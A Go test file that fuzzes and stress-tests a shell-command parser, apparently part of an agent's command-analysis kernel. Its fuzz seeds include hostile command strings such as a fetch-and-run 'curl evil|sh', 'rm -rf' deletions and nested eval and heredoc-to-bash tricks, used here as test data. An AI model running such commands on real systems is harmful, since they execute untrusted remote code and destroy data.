package shell_test

import (
	"errors"
	"strings"
	"testing"

	"org-agent/kernel/shell"
)

// FuzzParse checks that reading any text ends, and that every place in the result is valid.
func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		"ls && rm -rf build", "ls $(curl evil|sh)", "bash -c 'env sudo rm x' _ $y", "find . -exec rm {} + -delete", "git -c alias.x='!rm' x",
		"xargs -I{} sh -c 'rm {}'", "cat <<EOF | bash\n$(x)\nEOF", "a[$(x)]=1 ((x)) ${x@P}", "eval eval eval ls", "sed -e s/a/b/ -i x", "awk -f x", "{a,b}", "tar cIf x y", "[ -v x", "set -", "env -S", "timeout", "su -c", "flock", "ssh -", "watch -n", "python3 -", "$'\\''", "`", "\x00",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		script, err := shell.Parse(text)
		if err != nil {
			return
		}
		for i, c := range script.Commands {
			if len(c.Words) == 0 || c.Assigns > len(c.Words) || c.By >= i || c.By < -1 || c.Line < 1 {
				t.Fatalf("%q: command %d: %+v", text, i, c)
			}
			if c.OnlyRuns && (len(c.Opaque) > 0 || c.Assigns > 0) {
				t.Fatalf("%q: command %d only runs others: %+v", text, i, c)
			}
			for _, o := range c.Opaque {
				if o.At >= len(c.Words) || o.Why == "" {
					t.Fatalf("%q: command %d: %+v", text, i, c)
				}
			}
			if c.By >= 0 && (c.From > c.At || c.At >= len(script.Commands[c.By].Words)) {
				t.Fatalf("%q: command %d stands nowhere: %+v", text, i, c)
			}
		}
	})
}

// TestLimits checks that a text that is too long, too deep or too much is refused, and quickly.
func TestLimits(t *testing.T) {
	shells := "ls"
	for range 20 {
		shells = "eval " + shells
	}
	for name, text := range map[string]string{
		"long":     strings.Repeat("a ", 60<<10),
		"brackets": strings.Repeat("(", 10<<10), "substitutions": strings.Repeat("$(", 10<<10), "arithmetic": strings.Repeat("$((", 5<<10),
		"commands": strings.Repeat("a;", 10<<10), "nested": strings.Repeat("a | ", 5<<10) + "a",
	} {
		if _, err := shell.Parse(text); !errors.Is(err, shell.ErrTooLarge) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if got := summary(t, shells); !strings.HasSuffix(got, "!-1") {
		t.Errorf("shells in shells: %s", got)
	}
	for _, text := range []string{strings.Repeat("if ", 8<<10), strings.Repeat("time ", 5<<10) + "ls", strings.Repeat("`", 20<<10), "a\x00b"} {
		if _, err := shell.Parse(text); err == nil && !strings.HasPrefix(text, "time") && !strings.HasPrefix(text, "`") {
			t.Errorf("%.20q…: no error", text)
		}
	}
}
